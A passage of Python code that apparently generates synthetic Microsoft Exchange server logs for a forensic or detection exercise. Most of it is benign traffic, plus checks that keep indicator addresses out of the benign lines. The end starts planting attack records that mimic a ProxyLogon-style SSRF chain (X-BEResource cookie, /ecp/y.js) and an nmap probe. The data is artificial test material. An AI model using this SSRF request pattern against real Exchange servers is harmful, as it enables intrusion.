                stem, q = AUTODISCOVER_JSON, "?Email=%s%%40%s&Protocol=%s&RedirectCount=1" % (
                    u.sam, DOMAIN, proto2)
            row.update(UrlStem=stem, UrlQuery=q, Method="GET", UserAgent=u.dev_ua if
                       u.dev_type == "Outlook" else u.outlook, ClientIpAddress=u.mob_ip,
                       AuthenticationType="", IsAuthenticated="false",
                       AnchorMailbox="Smtp~" + u.upn, RoutingType="Smtp", RoutingHint="Url")
    elif proto == "RpcHttp":
        meth = "RPC_IN_DATA" if r.random() < 0.5 else "RPC_OUT_DATA"
        row.update(UrlStem="/rpc/rpcproxy.dll", Method=meth,
                   UrlQuery="?%s@%s:%d" % (u.mbx, DOMAIN, r.choice([6001, 6002, 6004])),
                   UserAgent=UA_MSRPC, ClientIpAddress=ip_of(u, r, roam=0.5), RoutingHint="Url",
                   AnchorMailbox="MailboxGuid~%s@%s" % (u.mbx, DOMAIN), RoutingType="MailboxGuid")
        hp_user(row, u, "Ntlm")
        t = r.randint(1000, 900000)
        row.update(BackendProcessingLatency=t, ProxyTime=t + 2, TotalRequestTime=t + 3,
                   ActivityContextLifeTime=t + 2)
        if roll < 0.1:
            hp_challenge(row)
    elif proto == "Ecp":
        admin = r.random() < 0.25
        a = r.choice(W.admins) if admin else u
        canary = base64.urlsafe_b64encode(r.getrandbits(456).to_bytes(57, "big")).decode() + "."
        k = weighted(r, [("root", 12), ("getlist", 30), ("home", 10), ("rules", 10),
                         ("newrule", 3), ("slab", 15), ("oof", 8), ("setobj", 2), ("ws", 10)])
        row.update(UserAgent=a.browser, ClientIpAddress=a.int_ip if admin else ip_of(a, r),
                   RoutingHint="Cookie", AnchorMailbox="Smtp~" + a.upn, RoutingType="Smtp")
        hp_user(row, a, "FBA")
        if k == "root":
            row.update(UrlStem="/ecp/", Method="GET")
        elif k == "getlist":
            row.update(UrlStem="/ecp/DDI/DDIService.svc/GetList",
                       UrlQuery="?schema=%s&msExchEcpCanary=%s" % (r.choice(ECP_SCHEMAS), canary))
            if roll < 0.01:
                hp_failure(row, r)
        elif k == "home":
            row.update(UrlStem="/ecp/PersonalSettings/HomePage.aspx", Method="GET",
                       UrlQuery="?showhelp=false")
        elif k == "rules":
            row.update(UrlStem="/ecp/RulesEditor/InboxRules.svc/GetList",
                       UrlQuery="?msExchEcpCanary=" + canary)
        elif k == "newrule":
            row.update(UrlStem="/ecp/RulesEditor/InboxRules.svc/NewObject",
                       UrlQuery="?msExchEcpCanary=" + canary)
        elif k == "slab":
            row.update(UrlStem="/ecp/UsersGroups/Mailboxes.slab", Method="GET",
                       UrlQuery="?showhelp=false")
        elif k == "oof":
            row.update(UrlStem="/ecp/Organize/AutomaticReplies.slab", Method="GET",
                       UrlQuery="?showhelp=false")
        elif k == "setobj":   # an administrator edits the OAB virtual directory
            row.update(UrlStem="/ecp/DDI/DDIService.svc/SetObject",
                       UrlQuery="?schema=OABVirtualDirectory&msExchEcpCanary=" + canary)
        else:
            row.update(UrlStem="/ecp/MailboxSearches/Search.svc/GetList" if admin else
                       "/ecp/Organize/Mailbox.svc/GetObject",
                       UrlQuery="?msExchEcpCanary=" + canary)
        if k != "root" and roll > 0.97:
            hp_challenge(row)
    elif proto == "PowerShell":
        a = r.choice(W.admins)
        probe = r.random() < 0.55
        if probe:
            row.update(UrlStem="/powershell", UserAgent=UA_WINRM, ClientIpAddress=SERVER_IP,
                       UrlQuery="?clientApplication=ActiveMonitor;PSVersion=5.1.14393.5582",
                       AuthenticatedUser="HealthMailbox%s@%s" % (hashlib.md5(
                           str(r.randint(0, 3)).encode()).hexdigest()[:7], DOMAIN),
                       AuthenticationType="Kerberos", IsAuthenticated="true",
                       AnchorMailbox="", RoutingType="", RoutingHint="Url")
        else:
            row.update(UrlStem="/powershell", UserAgent=UA_WINRM, ClientIpAddress=a.int_ip,
                       UrlQuery="?serializationLevel=Full;ExchClientVer=%s;clientApplication="
                       "ManagementShell;TargetServer=;PSVersion=5.1.17763.3887" % TOK_BLD,
                       AnchorMailbox="UserPrincipalName~" + a.upn, RoutingType="UserPrincipalName",
                       RoutingHint="Url")
            hp_user(row, a, "Kerberos")
        if roll < 0.07:
            hp_challenge(row)
    elif proto == "Oab":
        lzx = r.random() < 0.35
        row.update(UrlStem="/OAB/%s/%s" % (OAB_GUID, ("%s-data-%d.lzx" % (
            OAB_GUID, r.randint(1, 40))) if lzx else "oab.xml"), Method="GET",
            UserAgent=u.outlook, ClientIpAddress=ip_of(u, r), RoutingHint="Url",
            AnchorMailbox="OrganizationMailbox~" + FQDN2, RoutingType="OrganizationMailbox",
            ResponseBytes=r.randint(200000, 9000000) if lzx else r.randint(1500, 4000))
        hp_user(row, u, "Negotiate")
        if roll < 0.15:
            hp_challenge(row)
    elif proto == "Rest":
        row.update(UrlStem="/api/v2.0/me/%s" % r.choice(
            ["MailFolders/Inbox/messages", "calendarview", "contacts", "MailFolders",
             "mailboxsettings", "events"]), Method="GET",
            UrlQuery="?$top=%d" % r.choice([10, 25, 50]), UserAgent=u.dev_ua if
            u.dev_type == "Outlook" else u.browser, ClientIpAddress=u.mob_ip,
            RoutingHint="Url", AnchorMailbox="Smtp~" + u.upn, RoutingType="Smtp")
        hp_user(row, u, "Bearer")
        if roll < 0.08:
            hp_challenge(row)
    elif proto == "PushNotifications":
        row.update(UrlStem="/PushNotifications/service.svc/PublishOnPremNotifications",
                   UserAgent="Exchange Push Notification Service", ClientIpAddress=SERVER2_IP,
                   AnchorMailbox="Smtp~" + u.upn, RoutingType="Smtp", RoutingHint="Url")
        hp_user(row, u, "OAuth")
    elif proto == "ReportingWebService":
        a = r.choice(W.admins)
        row.update(UrlStem="/ecp/ReportingWebService/Reporting.svc/%s" % r.choice(
            ["MailboxUsage", "StaleMailbox", "MailTrafficTop"]), Method="GET",
            UrlQuery="?$format=Json", UserAgent="Microsoft.Data.Mashup (https://go.microsoft.com/fwlink/?LinkID=304225)",
            ClientIpAddress=a.int_ip, RoutingHint="Url", AnchorMailbox="Smtp~" + a.upn,
            RoutingType="Smtp")
        hp_user(row, a, "Negotiate")
    else:
        raise ValueError(proto)
    if row["Method"] == "GET":
        row["RequestBytes"] = 0
    if not row["AnchorMailbox"]:
        row["RoutingType"] = ""
    return row


# --------------------------------------------------------------------------------------
# IIS rows
# --------------------------------------------------------------------------------------

EAS_LOG = ("Log=PrxTo:%s_Ver1:161_HH:%s_SmtpAdrs:%s%%40%s_Sst:%d_LdapC:0_LdapL:0_RpcC:%d_RpcL:%d_"
           "Ers:1_Pk:%d_S1:%d_As:AllowedG_Mbx:%s_Dc:DC0%d.%s_Throttle:0_SBkOffD:L%%2f-470_"
           "TmRcv:%s_TmSt:%s_TmFin:%s_TmTDs:%d_TmDs:%d_Budget:(D)Owner%%3aS-1-5-21-3623811015-"
           "3361044348-30300820-%d_%s_")


def cafe(r):
    return "&CorrelationID=<empty>;&cafeReqId=%s;" % guid(r)


def iis_fe_variant(r, W):
    """One benign front-end (W3SVC1) request: everything after 'date time'."""
    users = W.users
    u = r.choice(users)
    k = weighted(r, BUSY_IIS_FE if PROFILE == "busy" else
                 [("mapi", 25), ("nspi", 3), ("ews", 17), ("eas", 16), ("owa", 11),
                  ("owastatic", 4), ("autod", 6), ("autodjson", 2), ("rpc", 4), ("ecp", 3),
                  ("oab", 2), ("ps", 1.2), ("health", 2.5), ("rest", 0.8), ("cal", 0.4),
                  ("noise", 1.2), ("crawler", 0.4), ("logonpage", 1.5)])
    user_dom = NETBIOS + "\\" + u.sam
    taken = r.randint(5, 400)
    if k in ("mapi", "nspi"):
        st = 401 if r.random() < 0.09 else 200
        return iis_rest("POST", "/mapi/emsmdb/" if k == "mapi" else "/mapi/nspi/",
                        "mailboxId=%s@%s%s&encoding=;" % (u.mbx, DOMAIN, cafe(r)), 443,
                        "" if st == 401 else u.upn, ip_of(u, r, roam=0.3), u.outlook, st, taken,
                        sub=1 if st == 401 else 0, win32=2148074254 if st == 401 else 0)
    if k == "ews":
        st = 401 if r.random() < 0.08 else (500 if r.random() < 0.01 else 200)
        return iis_rest("POST", "/EWS/Exchange.asmx", cafe(r)[1:], 443, "" if st == 401 else
                        user_dom, ip_of(u, r), UA_EWS_GOOD if r.random() < 0.04 else u.outlook, st,
                        taken, sub=2 if st == 401 else 0)
    if k == "eas":
        cmd = weighted(r, EAS_CMDS)
        st = 401 if r.random() < 0.05 else 200
        t0 = "%02d:%02d:%02d.%07d" % (r.randint(0, 23), r.randint(0, 59), r.randint(0, 59),
                                      r.randint(0, 9999999))
        log = EAS_LOG % (FQDN2, URLHOST, u.sam, DOMAIN, r.randint(1, 9), r.randint(1, 60),
                         r.randint(1, 90), r.randint(10 ** 9, 10 ** 10), r.randint(1, 9), FQDN2,
                         r.randint(1, 2), DOMAIN, t0, t0, t0, r.randint(0, 40), r.randint(0, 40),
                         1200 + users.index(u), "Mobile")
        t = r.randint(240000, 1740000) if cmd == "Ping" else taken
        return iis_rest("POST", "/Microsoft-Server-ActiveSync/default.eas",
                        "Cmd=%s&User=%s&DeviceId=%s&DeviceType=%s%s&%s" % (
                            cmd, u.sam, u.dev_id, u.dev_type, cafe(r), log), 443,
                        "" if st == 401 else user_dom, u.mob_ip, u.dev_ua, st, t,
                        sub=1 if st == 401 else 0)
    if k == "owa":
        ip = ip_of(u, r, roam=0.35)
        j = r.random()
        if j < 0.6:
            return iis_rest("POST", "/owa/service.svc", "action=%s&EP=1&ID=-%d&AC=1" % (
                r.choice(OWA_ACTIONS), r.randint(2, 220)), 443, user_dom, ip, u.browser,
                440 if r.random() < 0.02 else 200, taken, referer="https://%s/owa/" % URLHOST)
        if j < 0.8:
            return iis_rest("POST", "/owa/ev.owa2", "ns=PendingRequest&ev=PendingNotificationRequest"
                            "&UA=0&cid=%d" % r.randint(10 ** 8, 10 ** 9), 443, user_dom, ip,
                            u.browser, 200, r.randint(30000, 900000))
        if j < 0.9:
            return iis_rest("GET", "/owa/", "", 443, user_dom if r.random() < 0.7 else "", ip,
                            u.browser, 200 if r.random() < 0.7 else 302, taken)
        if j < 0.95:
            return iis_rest("POST", "/owa/auth.owa", "", 443, "", ip, u.browser, 302, taken,
                            referer="https://%s/owa/auth/logon.aspx?url=https%%3a%%2f%%2f%s%%2fowa"
                            "%%2f&reason=0" % (URLHOST, URLHOST))
        return iis_rest("GET", "/owa/service.svc/s/GetPersonaPhoto", "email=%s%%40%s&UA=0&size="
                        "HR64x64" % (r.choice(users).sam, DOMAIN), 443, user_dom, ip, u.browser,
                        200, taken)
    if k == "owastatic":
        path = r.choice(["/owa/auth/15.1.2507/themes/resources/favicon.ico",
                         "/owa/auth/15.1.2507/themes/resources/owa_text_blue.png",
                         "/owa/auth/15.1.2507/scripts/premium/flogon.js",
                         "/owa/auth/Current/themes/resources/logon.css",
                         "/owa/prem/15.1.2507/scripts/boot.worldwide.0.mouse.js",
                         "/owa/prem/15.1.2507/resources/styles/fabric.color.theme.light.css",
                         "/owa/prem/15.1.2507/resources/images/0/sprite1.mouse.png"])
        st = 304 if r.random() < 0.4 else 200
        return iis_rest("GET", path, "", 443, "", ip_of(u, r, roam=0.35), u.browser, st,
                        r.randint(0, 15))
    if k == "logonpage":
        return iis_rest("GET", "/owa/auth/logon.aspx", "url=https%%3a%%2f%%2f%s%%2fowa%%2f&reason=0"
                        % URLHOST, 443, "", ip_of(u, r, roam=0.35), u.browser, 200,
                        r.randint(5, 60))
    if k == "autod":
        st = 401 if r.random() < 0.12 else 200
        return iis_rest("POST", "/Autodiscover/Autodiscover.xml", cafe(r)[1:], 443,
                        "" if st == 401 else u.upn, ip_of(u, r), u.outlook, st, taken)
    if k == "autodjson":
        p2 = r.choice(["Ews", "ActiveSync", "AutodiscoverV1", "Rest"])
        return iis_rest("GET", "%s/v1.0/%s" % (AUTODISCOVER_JSON, u.upn),
                        "Protocol=%s&RedirectCount=1%s" % (p2, cafe(r)), 443, "", u.mob_ip,
                        u.dev_ua if u.dev_type == "Outlook" else u.outlook, 200, taken)
    if k == "rpc":
        return iis_rest(r.choice(["RPC_IN_DATA", "RPC_OUT_DATA"]), "/rpc/rpcproxy.dll",
                        "%s@%s:6001%s" % (u.mbx, DOMAIN, cafe(r)), 443, user_dom,
                        ip_of(u, r, roam=0.5), UA_MSRPC, 200, r.randint(1000, 900000))
    if k == "ecp":
        a = r.choice(W.admins) if r.random() < 0.3 else u
        if r.random() < 0.5:
            return iis_rest("GET", "/ecp/", "", 443, NETBIOS + "\\" + a.sam, a.int_ip, a.browser,
                            200, taken)
        return iis_rest("POST", "/ecp/DDI/DDIService.svc/GetList", "schema=%s&msExchEcpCanary=%s"
                        % (r.choice(ECP_SCHEMAS), base64.urlsafe_b64encode(
                            r.getrandbits(456).to_bytes(57, "big")).decode() + "."), 443,
                        NETBIOS + "\\" + a.sam, a.int_ip, a.browser, 200, taken)
    if k == "oab":
        return iis_rest("GET", "/OAB/%s/oab.xml" % OAB_GUID, "", 443, user_dom, ip_of(u, r),
                        u.outlook, 200 if r.random() < 0.85 else 401, taken)
    if k == "ps":
        a = r.choice(W.admins)
        return iis_rest("POST", "/powershell", "serializationLevel=Full;ExchClientVer=%s;"
                        "clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.3887"
                        % TOK_BLD, 80, NETBIOS + "\\" + a.sam, a.int_ip, UA_WINRM,
                        200 if r.random() < 0.93 else 401, taken)
    if k == "health":
        return iis_rest("GET", r.choice(["/owa/healthcheck.htm", "/ecp/healthcheck.htm",
                                         "/ews/healthcheck.htm", "/mapi/healthcheck.htm",
                                         "/Microsoft-Server-ActiveSync/healthcheck.htm",
                                         "/oab/healthcheck.htm", "/autodiscover/healthcheck.htm",
                                         "/rpc/healthcheck.htm"]), "", 443, "",
                        r.choice(LB_IPS), "", 200, r.randint(0, 4))
    if k == "rest":
        return iis_rest("GET", "/api/v2.0/me/MailFolders/Inbox/messages", "$top=25", 443,
                        user_dom, u.mob_ip, "Outlook-iOS-Android/1.0", 200, taken)
    if k == "cal":
        owner = r.choice(users)
        return iis_rest("GET", "/owa/calendar/%s@%s/%032x/calendar.ics" % (
            owner.oguid.replace("-", ""), DOMAIN, r.getrandbits(128)), "", 443, "", public_ip(r),
            "Google-Calendar-Importer", 200, taken)
    if k == "crawler":
        return iis_rest("GET", r.choice(["/robots.txt", "/", "/owa/auth/logon.aspx"]), "", 443,
                        "", public_ip(r), r.choice(UA_CRAWLERS), 404, r.randint(0, 3),
                        sub=0, win32=2)
    # internet background noise: scanners looking for other products
    path, st = r.choice([("/", 302), ("/.env", 404), ("/favicon.ico", 404),
                         ("/wp-login.php", 404), ("/owa/auth/logon.aspx", 200),
                         ("/remote/login", 404), ("/vpn/index.html", 404),
                         ("/api/v1/version", 404)])
    return iis_rest("GET", path, "", 443, "", public_ip(r), r.choice(
        [UA_ZGRAB, UA_CENSYS, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
         "(KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36", "-"]), st, r.randint(0, 6),
        win32=2 if st == 404 else 0)


def iis_be_variant(r, W):
    """One benign back-end (W3SVC2, port 444) request: proxied by a front end."""
    users = W.users
    u = r.choice(users)
    fe = SERVER_IP if r.random() < 0.6 else SERVER2_IP
    user_dom = NETBIOS + "\\" + u.sam
    taken = r.randint(3, 350)
    k = weighted(r, BUSY_IIS_BE if PROFILE == "busy" else
                 [("mapi", 30), ("ews", 20), ("eas", 16), ("owa", 14), ("ps", 4), ("psprobe", 3),
                  ("ecp", 3), ("autod", 5), ("oab", 2), ("rpc", 3), ("probe", 3)])
    cid = "&ClientId=%s" % ("%032X" % r.getrandbits(128))
    if k == "mapi":
        return iis_rest("POST", "/mapi/emsmdb/", "mailboxId=%s@%s%s%s&encoding=;" % (
            u.mbx, DOMAIN, cid, cafe(r)), 444, u.upn, fe, u.outlook, 200, taken)
    if k == "ews":
        return iis_rest("POST", "/EWS/Exchange.asmx", cafe(r)[1:], 444, user_dom, fe, u.outlook,
                        200, taken)
    if k == "eas":
        cmd = weighted(r, EAS_CMDS)
        return iis_rest("POST", "/Microsoft-Server-ActiveSync/Proxy/default.eas",
                        "Cmd=%s&User=%s&DeviceId=%s&DeviceType=%s%s" % (
                            cmd, u.sam, u.dev_id, u.dev_type, cafe(r)), 444, user_dom, fe,
                        u.dev_ua, 200, r.randint(240000, 1740000) if cmd == "Ping" else taken)
    if k == "owa":
        return iis_rest("POST", "/owa/service.svc", "action=%s&EP=1&ID=-%d&AC=1" % (
            r.choice(OWA_ACTIONS), r.randint(2, 220)), 444, user_dom, fe, u.browser, 200, taken)
    if k == "ps":
        a = r.choice(W.admins)
        return iis_rest("POST", "/powershell", "serializationLevel=Full;ExchClientVer=%s;"
                        "clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.3887"
                        % TOK_BLD, 444, NETBIOS + "\\" + a.sam, fe, UA_WINRM, 200, taken)
    if k == "psprobe":
        return iis_rest("POST", "/powershell", "clientApplication=ActiveMonitor;PSVersion=5.1.14393"
                        ".5582", 444, NETBIOS + "\\HealthMailbox%s" % hashlib.md5(
                            str(r.randint(0, 3)).encode()).hexdigest()[:7], SERVER_IP, UA_WINRM,
                        200, taken)
    if k == "ecp":
        a = r.choice(W.admins)
        return iis_rest("POST", "/ecp/DDI/DDIService.svc/GetList", "schema=%s&msExchEcpCanary=%s" % (
            r.choice(ECP_SCHEMAS), base64.urlsafe_b64encode(r.getrandbits(456).to_bytes(
                57, "big")).decode() + "."), 444, NETBIOS + "\\" + a.sam, fe, a.browser, 200, taken)
    if k == "autod":
        return iis_rest("POST", "/Autodiscover/Autodiscover.xml", cafe(r)[1:], 444, u.upn, fe,
                        u.outlook, 200, taken)
    if k == "oab":
        return iis_rest("GET", "/OAB/%s/oab.xml" % OAB_GUID, "", 444, user_dom, fe, u.outlook, 200,
                        taken)
    if k == "rpc":
        return iis_rest("RPC_IN_DATA", "/rpc/rpcproxy.dll", "%s@%s:6001%s" % (u.mbx, DOMAIN,
                                                                               cafe(r)), 444,
                        user_dom, fe, UA_MSRPC, 200, r.randint(1000, 900000))
    return iis_rest("GET", r.choice(["/owa/exhealth.check", "/ews/exhealth.check",
                                     "/mapi/exhealth.check", "/ecp/exhealth.check"]), "", 444,
                    "", SERVER_IP, UA_AMPROBE, 200, r.randint(0, 9))


# --------------------------------------------------------------------------------------
# Rps_Http, ECP Server and OAB generator rows
# --------------------------------------------------------------------------------------


def rps_dict(r, W, **kw):
    a = r.choice(W.admins)
    v = dict.fromkeys(RPS_FIELDS, "")
    v.update({
        "ClientRequestId": guid(r), "UrlHost": FQDN, "UrlStem": "/powershell",
        "AuthenticationType": "Kerberos", "IsAuthenticated": "true",
        "AuthenticatedUser": NETBIOS + "\\" + a.sam, "ClientIpAddress": a.int_ip,
        "ServerHostName": SERVER, "FrontEndServer": FQDN if r.random() < 0.6 else FQDN2,
        "HttpStatus": 200, "SubStatus": 0, "Action": "Command", "CommandId": guid(r).upper(),
        "CommandName": r.choice(ADMIN_CMDLETS), "SessionId": guid(r).upper(),
        "ShellId": guid(r).upper(), "FailFast": "False", "ContributeToFailFast": "False",
        "RequestBytes": r.randint(800, 6000), "ClientInfo": UA_WINRM, "CPU": r.randint(0, 60),
        "Memory": r.randint(1000, 9000), "ActivityContextLifeTime": r.randint(10, 300),
        "TotalTime": r.randint(10, 300),
        "UrlQuery": "?serializationLevel=Full;ExchClientVer=%s;clientApplication=ManagementShell;"
                    "TargetServer=;PSVersion=5.1.17763.3887" % TOK_BLD,
    })
    v.update(kw)
    return v


def rps_variant(r, W):
    k = r.random()
    if k < 0.45:   # Managed Availability's probe through the back end
        v = rps_dict(r, W, AuthenticatedUser=NETBIOS + "\\HealthMailbox%s" % hashlib.md5(
            str(r.randint(0, 3)).encode()).hexdigest()[:7], ClientIpAddress=SERVER_IP,
            ClientInfo="Exchange BackEnd Probes", CommandName=r.choice(PROBE_CMDLETS),
            UrlQuery="?clientApplication=ActiveMonitor;PSVersion=5.1.14393.5582")
    elif k < 0.55:   # the session's keep-alive and output pulls have no ClientInfo
        v = rps_dict(r, W, Action=r.choice(["Receive", "Signal", "Delete"]), CommandName="",
                     ClientInfo="")
    else:
        v = rps_dict(r, W)
        if r.random() < 0.04:
            v.update(HttpStatus=500, ErrorCode="ManagementObjectNotFoundException",
                     GenericErrors="Cmdlet failed: couldn't be found on %s" % FQDN)
    return v


def rps_body(v):
    return ",".join(csv_field(v[f]) for f in RPS_FIELDS[7:])


def ecp_data(cmd, reqid, url, bld):
    return "S:CMD=%s;S:REQID=%s;S:URL=%s;S:BLD=%s" % (cmd, reqid, url, bld)


def ecp_variant(r, W):
    u = r.choice(W.users)
    a = r.choice(W.admins)
    k = weighted(r, [("rules", 20), ("mbx", 15), ("setmbx", 6), ("track", 10), ("oof", 12),
                     ("vdir", 3), ("setoab", 0.5), ("perm", 4), ("dg", 8), ("quota", 3)])
    if k == "rules":
        cmd, url = "Get-InboxRule.Mailbox='%s'" % u.upn, "/ecp/RulesEditor/InboxRules.svc/GetList"
    elif k == "mbx":
        cmd, url = "Get-Mailbox.ResultSize='500'", "/ecp/UsersGroups/Mailboxes.svc/GetList"
    elif k == "setmbx":
        cmd, url = ("Set-Mailbox.Identity='%s'.ProhibitSendQuota='9.5 GB (10,200,547,328 bytes)'"
                    % u.upn, "/ecp/UsersGroups/EditMailbox.aspx")
    elif k == "track":
        cmd, url = ("Get-MessageTrackingReport.ResultSize='100'",
                    "/ecp/DDI/DDIService.svc/GetList?schema=MessageTraceSummary")
    elif k == "oof":
        cmd, url = ("Get-MailboxAutoReplyConfiguration.Identity='%s'" % u.upn,
                    "/ecp/Organize/AutomaticReplies.svc/GetObject")
    elif k == "vdir":
        cmd, url = ("Get-%sVirtualDirectory.Server='%s'" % (r.choice(
            ["Owa", "Ecp", "WebServices", "Oab", "ActiveSync", "Mapi"]), SERVER),
            "/ecp/DDI/DDIService.svc/GetList?schema=VirtualDirectories")
    elif k == "setoab":   # an administrator sets the OAB URL: no markup
        cmd, url = ("Set-OabVirtualDirectory.ExternalUrl='https://%s/OAB'.Identity='%s'" % (
            URLHOST, OAB_GUID), "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory")
    elif k == "perm":
        cmd, url = ("Get-MailboxPermission.Identity='%s'" % u.upn,
                    "/ecp/UsersGroups/MailboxPermissions.svc/GetList")
    elif k == "dg":
        cmd, url = ("Get-DistributionGroup.ResultSize='Unlimited'",
                    "/ecp/UsersGroups/DistributionGroups.svc/GetList")
    else:
        cmd, url = ("Get-MailboxStatistics.Identity='%s'" % u.upn,
                    "/ecp/UsersGroups/MailboxStatistics.svc/GetObject")
    data = ecp_data(cmd, guid(r), url, TOK_BLD) + (";S:USER=%s" % a.upn if k in (
        "mbx", "setmbx", "vdir", "setoab", "perm", "dg", "quota") else ";S:USER=%s" % u.upn)
    return "%s,%d,%s" % (SERVER, r.choice([1, 1, 1, 1, 2, 3]), csv_field(data))


OAB_NAME = "\\Default Offline Address Book"


def oab_variant(r, W):
    tid = r.randint(8, 60)
    k = weighted(r, [("start", 6), ("prop", 30), ("gen", 10), ("temp", 8), ("fin", 6),
                     ("dn", 25), ("upload", 8), ("skip", 7)])
    tmp = "%s%s%s\\%s\\%s" % (OAB_INSTALL, "ClientAccess\\OAB\\Temp\\", guid(r), OAB_GUID,
                             r.choice(["oab.xml", "lng0409.lzx", "browse.oab", "rdndex.oab",
                                       "data-%d.lzx" % r.randint(1, 40)]))
    if k == "start":
        lvl, msg = "Information", "OABGen: starting generation of offline address book '%s'." % OAB_NAME
    elif k == "prop":
        lvl, msg = "Verbose", "OABGen: processed property %s for %d recipients in %d ms." % (
            r.choice(["DisplayName", "SmtpAddress", "Department", "TelephoneNumber", "Title",
                      "ProxyAddresses", "Company", "Office"]), r.randint(100, 1200),
            r.randint(1, 900))
    elif k == "gen":
        lvl, msg = "Information", ("Generated full OAB version 4 for '%s': %d entries, 0 errors, "
                                   "%d warnings." % (OAB_NAME, r.randint(1100, 1250), r.randint(0, 9)))
    elif k == "temp":
        lvl, msg = "Warning", "Download failed and temporary file '%s' needs to be removed." % tmp
    elif k == "fin":
        lvl, msg = "Information", ("OABGen: finished generation of offline address book '%s', "
                                   "duration 00:00:%02d.%03d." % (OAB_NAME, r.randint(1, 59),
                                                                  r.randint(0, 999)))
    elif k == "dn":
        lvl, msg = "Verbose", ("OABGen: recipient 'CN=%s %s,OU=Users,OU=Corp,DC=corp,DC=example,"
                               "DC=com' added to the address list." % (
                                   r.choice(FIRST).title(), r.choice(LAST).title()))
    elif k == "upload":
        lvl, msg = "Information", ("OABGen: uploaded %d files to the arbitration mailbox "
                                   "'SystemMailbox{bb558c35-97f1-4cb9-8ff7-d53741dc928c}'." %
                                   r.randint(3, 12))
    else:
        lvl, msg = "Verbose", ("OABGen: skipped recipient '%s' because it is hidden from address "
                               "lists." % r.choice(W.users).upn)
    return "%d,%d,%s,%s" % (6120, tid, lvl, csv_field(msg))


# --------------------------------------------------------------------------------------
# Pools of benign line bodies
# --------------------------------------------------------------------------------------

POOL_N = {"hp": 3000, "iis1": 6000, "iis2": 3000, "rps": 1500, "ecp": 1500, "oab": 1000}


class World:
    def __init__(self, seed):
        self.seed = seed
        self.users, self.admins = make_users(seed)


def check_benign(s):
    low = s.lower()
    post = " post " in low or ",post," in low
    for ua, post_only in IOC_UAS:
        if post_only and not post:
            continue
        if ua.lower() in low or ua.replace(" ", "+").lower() in low:
            raise AssertionError("benign line holds an IOC user agent: " + s)
    for tok in DOC_NETS:
        if tok in s:
            raise AssertionError("benign line holds a documentation address: " + s)


def build_pool(W, family, folder):
    """Template bodies (with build tokens) for one folder, shuffled, ASCII, ending in CRLF."""
    r = sub_rng(W.seed, "pool", family, folder)
    n = POOL_N[family]
    out = []
    for _ in range(n):
        if family == "hp":
            row = hp_variant(folder, r, W)
            body = ",".join(csv_field(row[f]) for f in HP_FIELDS[6:])
        elif family == "iis1":
            body = iis_fe_variant(r, W)
        elif family == "iis2":
            body = iis_be_variant(r, W)
        elif family == "rps":
            body = rps_body(rps_variant(r, W))
        elif family == "ecp":
            body = ecp_variant(r, W)
        else:
            body = oab_variant(r, W)
        body.encode("ascii")
        check_benign(body)
        out.append(body + CRLF)
    # an IOC address must never stand alone in a benign line
    iocs = set(IOC_IPS)
    for b in out:
        for tok in b.replace(",", " ").replace(":", " ").replace("=", " ").replace(";", " ") \
                .replace("&", " ").replace("~", " ").replace("@", " ").split():
            if tok in iocs:
                raise AssertionError("benign line holds an IOC address: " + b)
    return out


def pool_for_build(tmpl, build):
    bld, t = build_short(build), tsv(build)
    bodies = [b.replace(TOK_TSV, t).replace(TOK_BLD, bld) for b in tmpl]
    lens = sorted((len(b), i) for i, b in enumerate(bodies))
    distinct, first = [], []
    for n, i in lens:
        if not distinct or distinct[-1] != n:
            distinct.append(n)
            first.append(i)
    return bodies, [x[0] for x in lens], [x[1] for x in lens], distinct, first


# --------------------------------------------------------------------------------------
# Planted attacks
# --------------------------------------------------------------------------------------

def hp_line(build, **kw):
    maj, mnr, bld, rev = build_parts(build)
    row = dict.fromkeys(HP_FIELDS, "")
    row.update(MajorVersion=maj, MinorVersion=mnr, BuildVersion=bld, RevisionVersion=rev,
               UrlHost=URLHOST, ServerHostName=SERVER, HttpStatus=200, BackEndStatus=200,
               Method="GET", ProxyAction="Proxy", TargetServer=FQDN, TargetServerVersion=tsv(build),
               ServerLocatorHost=FQDN, ServerLocatorLatency=1, RequestBytes=0, ResponseBytes=2311,
               TargetOutstandingRequests=1, HttpPipelineLatency=0, CalculateTargetBackEndLatency=1,
               ADLatency=0, BackendProcessingLatency=87, ProxyTime=95, TotalRequestTime=101,
               ActivityContextLifeTime=100, CoreLatency=2, RoutingLatency=0, HttpProxyOverhead=6)
    for k, v in kw.items():
        if k not in row:
            raise KeyError(k)
        row[k] = v
    return ",".join(csv_field(row[f]) for f in HP_FIELDS)


def p_ssrf(stage, status, stem="/ecp/y.js", protocol="Ecp", method="POST", ua=UA_CHROME87):
    path = CHAIN[stage]

    def make(ts, ip, build, key):
        return hp_line(build, DateTime=ts, RequestId=key.guid(), ClientRequestId=key.guid(),
                       Protocol=protocol, UrlStem=stem, Method=method, AuthenticationType="",
                       IsAuthenticated="false", AuthenticatedUser="",
                       AnchorMailbox=SSRF_PREFIX + path, UserAgent=ua, ClientIpAddress=ip,
                       HttpStatus=status, BackEndStatus=status, RoutingType="ServerInfo",
                       RoutingHint="X-BEResource-Cookie",
                       BackEndCookie="Server~a]@%s:444%s~1941962754" % (FQDN, path),
                       ServerLocatorHost="", ServerLocatorLatency="", RequestBytes=
                       0 if method == "GET" else 1873)
    return make


def p_hp(protocol, stem, query="", method="GET", status=200, ua=UA_CHROME92, user="",
         anchor="", **extra):
    def make(ts, ip, build, key):
        kw = dict(DateTime=ts, RequestId=key.guid(), ClientRequestId=key.guid(), Protocol=protocol,
                  UrlStem=stem, UrlQuery=query, Method=method, HttpStatus=status,
                  BackEndStatus=status, UserAgent=ua, ClientIpAddress=ip,
                  AuthenticationType="Negotiate" if user else "",
                  IsAuthenticated="true" if user else "false", AuthenticatedUser=user,
                  AnchorMailbox=anchor, RoutingType=anchor.split("~")[0] if anchor else "",
                  RoutingHint="Url", RequestBytes=0 if method == "GET" else 1520)
        kw.update(extra)
        return hp_line(build, **kw)
    return make


def p_nmap():
    def make(ts, ip, build, key):
        return hp_line(build, DateTime=ts, RequestId=key.guid(), Protocol="Owa",
                       UrlStem="/owa/auth/x.js", Method="GET", AuthenticationType="FBA",
                       IsAuthenticated="false", AnchorMailbox="ServerInfo~localhost/ecp/default.flt?",
